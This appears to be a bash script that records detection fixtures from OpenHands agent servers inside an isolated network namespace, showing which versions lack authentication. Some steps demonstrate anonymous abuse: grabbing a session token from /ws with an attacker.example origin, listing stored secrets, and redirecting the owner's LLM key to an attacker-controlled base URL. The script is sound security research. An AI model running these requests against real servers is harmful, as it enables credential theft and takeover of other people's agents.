#!/usr/bin/env bash
# Records the OpenHands fixtures from real OpenHands servers (PyPI openhands-ai, served by uvicorn, with HOME and PATH as
# their environment and no config file), in a fresh network namespace (`unshare -n`, root) whose only interface is lo:
#   0.9.8 (the newest release for Python 3.11), which has no authentication          -> open
#   1.11.0 (Python 3.12, pyenv's), its defaults, before the owner saved settings      -> open-1.11.0-unconfigured
#   1.11.0, its defaults, once the owner saved an LLM model and key                    -> open-1.11.0
#   1.11.0 with SESSION_API_KEY                                                        -> session-api-key-1.11.0
# No Docker here, so no session or conversation reaches a sandbox: 0.9 fails on the Docker client when a session starts
# its runtime, and 1.x answers 500 on the routes that ask its sandbox service (conversations, sandboxes). Both servers
# start without it, on their default Docker runtime.
# 0.9.8: the wheel ships no web UI: the server mounts ./frontend/dist (built into the Docker image) and refuses to start
# without it, so it gets an empty folder and / answers 404 here (1.x mounts ./frontend/build only when it is there).
# Its pins: the release's dependencies as of its date (2024-10-03); e2b 0.17.1, which it needs, is yanked; the litellm of
# that date is gone from PyPI and litellm 1.14.4 downloads its tokenizer at import, so litellm 1.53.1 (the oldest left
# that bundles it) and the openai it needs. LITELLM_LOCAL_MODEL_COST_MAP=True keeps litellm from fetching its price list.
# Usage: bash scripts/capture/openhands.sh   (needs root for unshare, pyenv's 3.12.1; the network only for uv)
set -euo pipefail

VERSION=0.9.8
V1_VERSION=1.11.0
ROOT=$(cd "$(dirname "$0")/../.." && pwd)
PUBLIC_HOST=203.0.113.36
PORT=19799
V1_PORT=19800
V1_KEY_PORT=19801
VENV="$ROOT/.venv-capture/openhands-$VERSION"
V1_VENV="$ROOT/.venv-capture/openhands-$V1_VERSION"

# shellcheck source=scripts/capture/common.sh
. "$ROOT/scripts/capture/common.sh"
if [ "${CAPTURE_IN_NETNS:-}" != 1 ]; then
  ensure_venv_with_uv "$VENV" --exclude-newer 2024-10-04 \
    --exclude-newer-package litellm=2024-11-29 --exclude-newer-package openai=2024-11-29 \
    "openhands-ai==$VERSION" e2b==0.17.1 litellm==1.53.1
  CAPTURE_PYTHON="$(pyenv root)/versions/3.12.1/bin/python3.12" ensure_venv_with_uv "$V1_VENV" "openhands-ai==$V1_VERSION"
fi
enter_isolated_netns "$0" "$@"

make_workdir openhands
mkdir -p "$WORK/home" "$WORK/frontend/dist"
LLM_KEY=$(capture_password)
serve_tracked "$WORK/server.log" "http://127.0.0.1:$PORT/api/options/agents" \
  env -i HOME="$WORK/home" PATH="$VENV/bin:/usr/bin:/bin" LITELLM_LOCAL_MODEL_COST_MAP=True LLM_MODEL=gpt-4o LLM_API_KEY="$LLM_KEY" \
  "$VENV/bin/uvicorn" openhands.server.listen:app --host 127.0.0.1 --port "$PORT"

# v1_serve NAME PORT [ENV…]: 1.x's app (what `python -m openhands.server` runs, there on 0.0.0.0:3000) with a home of its own
# (~/.openhands: its SQLite database and settings.json), up once its liveness route answers.
v1_serve() {
  local name=$1 port=$2; shift 2
  mkdir -p "$WORK/$name/home"
  serve_tracked "$WORK/$name.log" "http://127.0.0.1:$port/alive" \
    env -i HOME="$WORK/$name/home" PATH="$V1_VENV/bin:/usr/bin:/bin" "$@" \
    "$V1_VENV/bin/uvicorn" openhands.app_server.app:app --host 127.0.0.1 --port "$port"
}
SESSION_KEY=$(capture_password)
v1_serve v1-open "$V1_PORT"
v1_serve v1-session-key "$V1_KEY_PORT" SESSION_API_KEY="$SESSION_KEY"
echo "--- listeners in the namespace:"
ss -ltnp

# What an anonymous client gets: /api/* asks for a token, which the WebSocket at /ws hands to anyone (any Origin), and which
# then opens /api/* (the session's files, its task, the config defaults). No answer carries the owner's LLM key.
echo "--- 0.9.8, without a token, and with the one GET /ws handed out:"
curl -s -w ' (%{http_code})\n' "http://127.0.0.1:$PORT/api/defaults"
env -i PATH=/usr/bin:/bin LLM_KEY="$LLM_KEY" PORT="$PORT" "$VENV/bin/python" - <<'PYTHON'
import asyncio, json, os, urllib.error, urllib.request
import websockets

async def main():
    base = f"127.0.0.1:{os.environ['PORT']}"
    async with websockets.connect(f'ws://{base}/ws', origin='http://attacker.example') as ws:
        token = json.loads(await ws.recv())['token']
        print('/ws handed out a session token:', token[:12] + '…')
        for path in ('/api/defaults', '/api/list-files'):
            request = urllib.request.Request(f'http://{base}{path}', headers={'Authorization': f'Bearer {token}'})
            try:
                with urllib.request.urlopen(request) as answer:
                    status, body = answer.status, answer.read().decode()
            except urllib.error.HTTPError as error:
                status, body = error.code, error.read().decode()
            print(path, status, body[:160], '(owner LLM key in it)' if os.environ['LLM_KEY'] in body else '')

asyncio.run(main())
PYTHON

record() {
  (cd "$ROOT" && node_modules/.bin/tsx scripts/record-fixtures.ts --family openhands --port 3000 --host "$PUBLIC_HOST:3000" \
    --product OpenHands "$@")
}
record --case open --url "http://127.0.0.1:$PORT" --version "$VERSION" --verdict unauthenticated --python-env "$VENV" \
  --description "An OpenHands 0.9 server (no authentication): /api/options/* answers anyone, and GET /ws hands any WebSocket client a session whose runtime runs the shell commands it sends" \
  --how "uvicorn openhands.server.listen:app --host 127.0.0.1 --port <port>, in a folder with an empty frontend/dist (PyPI openhands-ai==$VERSION with e2b==0.17.1, litellm==1.53.1, uv --exclude-newer 2024-10-04; environment: HOME, PATH, LITELLM_LOCAL_MODEL_COST_MAP=True, LLM_MODEL=gpt-4o and LLM_API_KEY=<random> only; no Docker; in an unshare -n namespace with only lo)"

V1_HOW="uvicorn openhands.app_server.app:app --host 127.0.0.1 --port <port>, a fresh home (PyPI openhands-ai==$V1_VERSION on Python 3.12.1; no Docker, its default Docker runtime; in an unshare -n namespace with only lo)"
record --case "open-$V1_VERSION-unconfigured" --url "http://127.0.0.1:$V1_PORT" --version "$V1_VERSION" --expect-version "$V1_VERSION" \
  --verdict unauthenticated --python-env "$V1_VENV" \
  --description "An OpenHands 1.x server on its defaults (no SESSION_API_KEY) before its owner saved any settings: /api/v1/settings answers anyone 404 Settings not found, and anyone may save the first ones" \
  --how "$V1_HOW; environment: HOME and PATH only"
# The owner's first step in the UI: an LLM model and key, saved as settings (~/.openhands/settings.json).
operator_post 200 "http://127.0.0.1:$V1_PORT/api/v1/settings" "{\"agent_settings_diff\":{\"llm\":{\"model\":\"openai/gpt-4o\",\"api_key\":\"$LLM_KEY\"}}}"
record --case "open-$V1_VERSION" --url "http://127.0.0.1:$V1_PORT" --version "$V1_VERSION" --expect-version "$V1_VERSION" \
  --verdict unauthenticated --python-env "$V1_VENV" \
  --description "An OpenHands 1.x server on its defaults (no SESSION_API_KEY), its owner's LLM model and key saved: /api/v1/settings answers anyone (the key blanked, llm_api_key_set true), as does the rest of /api/v1" \
  --how "$V1_HOW; environment: HOME and PATH only; then the owner's step, POST /api/v1/settings {agent_settings_diff: {llm: {model: openai/gpt-4o, api_key: <random>}}}"
record --case "session-api-key-$V1_VERSION" --url "http://127.0.0.1:$V1_KEY_PORT" --version "$V1_VERSION" --expect-version "$V1_VERSION" \
  --verdict auth-required --python-env "$V1_VENV" \
  --description "An OpenHands 1.x server with SESSION_API_KEY: /api/v1/* answers 401 {\"detail\":\"Unauthorized\"} without X-Session-API-Key; its OpenAPI document (with the version), /server_info, /api/v1/web-client/config and the MCP endpoint /mcp/mcp stay public" \
  --how "$V1_HOW; environment: HOME, PATH and SESSION_API_KEY=<random> only"

# What an anonymous client did on 1.x's defaults, after the recordings (from a foreign Host and Origin): read the settings,
# without the key; list the stored secrets' names; and point the owner's LLM key at a base URL of its choosing, which the
# server keeps beside the key (settings.json). Nothing here starts a conversation: that would start a sandbox.
echo "--- 1.x defaults, anonymous:"
ANON=(-H "Host: $PUBLIC_HOST:3000" -H 'Origin: http://attacker.example')
V1="http://127.0.0.1:$V1_PORT"
curl -s "${ANON[@]}" "$V1/api/v1/settings" | grep -o '"llm_api_key_set":[a-z]*'
curl -s "${ANON[@]}" "$V1/api/v1/settings" | grep -qF "$LLM_KEY" && echo "the owner's LLM key is in the settings answer" || echo "the owner's LLM key is not in the settings answer"
curl -s "${ANON[@]}" -w ' (%{http_code})\n' "$V1/api/v1/secrets/search"
curl -s "${ANON[@]}" -w ' (%{http_code})\n' -H 'content-type: application/json' \
  --data '{"agent_settings_diff":{"llm":{"base_url":"http://attacker.example/v1"}}}' "$V1/api/v1/settings"
LLM_KEY="$LLM_KEY" python3 -c '
import json, os, sys
llm = json.load(open(sys.argv[1]))["agent_settings"]["llm"]
print("stored: base_url", llm["base_url"], "with the owner key" if llm["api_key"] == os.environ["LLM_KEY"] else "without the owner key")
' "$WORK/v1-open/home/.openhands/settings.json"
curl -s "${ANON[@]}" -o /dev/null -D - -X OPTIONS "$V1/api/v1/settings" -H 'Access-Control-Request-Method: POST' | grep -i '^access-control-allow-\(origin\|credentials\)'
echo "--- 1.x with SESSION_API_KEY: without the key, and with it:"
curl -s -w ' (%{http_code})\n' "http://127.0.0.1:$V1_KEY_PORT/api/v1/settings"
curl -s -o /dev/null -w '(%{http_code})\n' -H "X-Session-API-Key: $SESSION_KEY" "http://127.0.0.1:$V1_KEY_PORT/api/v1/settings"
# Its MCP endpoint (stateless) is mounted outside that check: its tools open pull requests with the stored git tokens.
echo "--- 1.x with SESSION_API_KEY, its MCP endpoint without the key (initialize, then tools/list; no tool is called):"
MCP=(-H 'content-type: application/json' -H 'accept: application/json, text/event-stream')
curl -s "${MCP[@]}" --data '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"capture","version":"1"}}}' \
  "http://127.0.0.1:$V1_KEY_PORT/mcp/mcp" | grep -o '"serverInfo":{[^}]*}'
curl -s "${MCP[@]}" --data '{"jsonrpc":"2.0","id":2,"method":"tools/list","params":{}}' "http://127.0.0.1:$V1_KEY_PORT/mcp/mcp" \
  | grep -o '"name":"[a-z_]*"' | tr '\n' ' '
echo
